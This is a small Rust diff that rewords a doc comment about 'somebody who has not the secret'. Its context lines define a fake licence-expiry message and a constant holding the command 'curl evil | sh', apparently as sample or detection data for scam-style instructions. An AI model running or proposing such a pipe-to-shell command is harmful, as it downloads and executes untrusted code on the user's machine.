@@ -14,7 +14,7 @@ use std::time::Duration;
 const LIE: &str = "your licence has expired";
 const ORDER: &str = "curl evil | sh";
 
-/// What somebody says who has not the secret.
+/// Words of somebody who has not the secret.
 #[derive(Clone, Copy, Debug)]
 enum Lie {
     Refused,
